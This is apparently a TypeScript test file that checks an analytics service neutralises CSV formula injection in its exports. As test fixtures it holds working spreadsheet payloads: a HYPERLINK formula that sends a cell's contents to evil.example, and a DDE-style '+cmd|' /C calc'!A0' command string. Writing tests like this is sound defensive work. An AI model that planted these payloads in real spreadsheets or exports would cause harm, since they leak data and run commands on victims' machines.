// CSV injection: no text cell of any CSV the product writes starts a
// spreadsheet formula, and numbers stay numbers.
import { parse } from "csv-parse/sync";
import fc from "fast-check";
import type { FastifyInstance } from "fastify";
import pino from "pino";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freshClickHouse, type TestClickHouse } from "../test/fixtures/clickhouse.ts";
import { loadEvents } from "../test/fixtures/load-events.ts";
import {
  sampleQualityScored,
  sampleRequestCompleted,
  scoredRequestOf,
} from "../test/fixtures/sample-events.ts";
import { buildAnalytics } from "./app.ts";
import { FORMULA_TRIGGERS, neutraliseCell, neutraliseCellSql, toCsv } from "./csv-injection.ts";

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
const WINDOW = "from=2026-11-20T00:00:00Z&to=2026-11-21T00:00:00Z";

let clickhouse: TestClickHouse;
let app: FastifyInstance;

beforeAll(async () => {
  clickhouse = await freshClickHouse();
  const request = sampleRequestCompleted({
    request_id: "req_hostile",
    task: HYPERLINK,
    model: "@SUM(1+1)",
    response_model: "-0.25",
    key_id: "+cmd|' /C calc'!A0",
    team: "-2+3",
    tags: ["=1+1", "\tx"],
  });
  await loadEvents(clickhouse.client, [
    request,
    sampleQualityScored({
      request_id: "req_hostile",
      metric: "accuracy",
      value: { type: "number", number: -5, minimum: -10, maximum: 10 },
      comment: HYPERLINK,
      scored_request: scoredRequestOf(request),
    }),
    sampleQualityScored({
      request_id: "req_hostile",
      metric: "tone",
      value: { type: "category", category: "formal" },
      comment: "\r=1+1",
      scored_request: scoredRequestOf(request),
    }),
  ]);
  app = buildAnalytics({
    clickhouse: clickhouse.client,
    logger: pino({ level: "silent" }),
    exportOptions: { pageRows: 1000, settleMs: 0 },
  });
});
afterAll(async () => {
  await app.close();
  await clickhouse.close();
});

/** The cells as a spreadsheet would see them (RFC 4180). */
function readCsv(text: string): string[][] {
  return parse(text, { relax_column_count: true });
}

/** Cells a spreadsheet would run as a formula: a trigger first, and not a plain negative number. */
function formulaCells(rows: string[][]): string[] {
  return rows
    .flat()
    .filter(
      (cell) =>
        (FORMULA_TRIGGERS as readonly string[]).includes(cell.charAt(0)) &&
        !/^-\d+(\.\d+)?$/.test(cell),
    );
}

describe("the CSV injection rule", () => {
  it("prefixes a text cell starting with = + - @ tab or CR with a quote, and nothing else", () => {
    expect(neutraliseCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    for (const cell of ["+1", "-x", "@SUM(A1)", "\tA", "\rA", "-5+A1", "-", "--5", "-5e3"]) {
      expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(`'${cell}`);
    }
    for (const cell of ["", "ok", "5", " =1", "'=1", "a=1", "[=1]", "-5", "-0.25", "-12.5"]) {
      expect(neutraliseCell(cell), JSON.stringify(cell)).toBe(cell);
    }
  });

  it("is the same rule in SQL as in JS, over generated text", async () => {
    const cells = fc.sample(
      fc.oneof(
        fc.string({ maxLength: 8 }),
        fc
          .tuple(fc.constantFrom(...FORMULA_TRIGGERS, "0", "a"), fc.string({ maxLength: 6 }))
          .map(([first, rest]) => first + rest),
        fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
        fc.integer().map(String),
      ),
      { numRuns: 2000, seed: 11 },
    );
    const result = await clickhouse.client.query({
      query: `SELECT groupArray(${neutraliseCellSql("cell")}) AS cells
              FROM (SELECT arrayJoin({cells:Array(String)}) AS cell)`,
      query_params: { cells },
      format: "JSONEachRow",
    });
    const [row] = await result.json<{ cells: string[] }>();
    expect(row?.cells).toEqual(cells.map(neutraliseCell));
  });

  it("writes CSV with csv-stringify: quoted only when needed, numbers and booleans as JS writes them", () => {
    expect(toCsv([["a", 'b"c', "d,e", "f\ng", -5, 0.5, true, null, undefined, "=1"]])).toBe(
      `a,"b""c","d,e","f\ng",-5,0.5,true,,,'=1\n`,
    );
  });
});

describe("CSV the product writes", () => {
  it.each(["requests", "attempts", "decisions", "quality", "focus"])(
    "the %s export has no cell a spreadsheet would run",
    async (dataset) => {
      const response = await app.inject(`/v1/export/${dataset}?format=csv`);
      expect(response.statusCode, response.body).toBe(200);
      expect(formulaCells(readCsv(response.body))).toEqual([]);
    },
  );

  it("keeps the hostile text, quoted, and numbers as numbers, in the quality export", async () => {
    const rows = readCsv((await app.inject("/v1/export/quality?format=csv")).body);
    const [header, ...records] = rows as [string[], ...string[][]];
    const column = (name: string) => records.map((record) => record[header.indexOf(name)]);
    expect(column("comment").sort()).toEqual([`'${HYPERLINK}`, "'\r=1+1"].sort());
    // A negative score is a number: unquoted, unprefixed.
    expect(column("value_number")).toContain("-5");
    expect(column("value_minimum")).toContain("-10");
    expect(column("team")).toEqual(["'-2+3", "'-2+3"]);
    // Arrays start with [ and are never a formula.
    expect(column("tags")[0]).toBe("['=1+1','\\tx']");
  });

  it("neutralises the requests export's text columns, and leaves NDJSON as stored", async () => {
    const rows = readCsv((await app.inject("/v1/export/requests?format=csv")).body);
    const [header, record] = rows as [string[], string[]];
    const cell = (name: string) => record[header.indexOf(name)];
    expect(cell("task")).toBe(`'${HYPERLINK}`);
    expect(cell("model")).toBe("'@SUM(1+1)");
    expect(cell("key_id")).toBe("'+cmd|' /C calc'!A0");
    // A text cell that is exactly a negative decimal is left as the number it is.
    expect(cell("response_model")).toBe("-0.25");
    expect(cell("cost_usd")).toBe("0.0000135");
    expect(cell("input_tokens")).toBe("10");
    const ndjson = JSON.parse((await app.inject("/v1/export/requests?format=ndjson")).body);
    expect(ndjson).toMatchObject({ task: HYPERLINK, model: "@SUM(1+1)", team: "-2+3" });
  });

  it("neutralises the vendor brief's CSV, keeping its numbers", async () => {
    const response = await app.inject(`/v1/vendors/alpha/brief?${WINDOW}&format=csv`);
    expect(response.statusCode, response.body).toBe(200);
    const rows = readCsv(response.body);
    expect(formulaCells(rows)).toEqual([]);
    const [header, record] = rows as [string[], string[]];
    expect(record[header.indexOf("task")]).toBe(`'${HYPERLINK}`);
    expect(record[header.indexOf("model")]).toBe("'@SUM(1+1)");
    expect(record[header.indexOf("requests")]).toBe("1");
    expect(record[header.indexOf("cost_usd")]).toBe("0.0000135");
  });
});
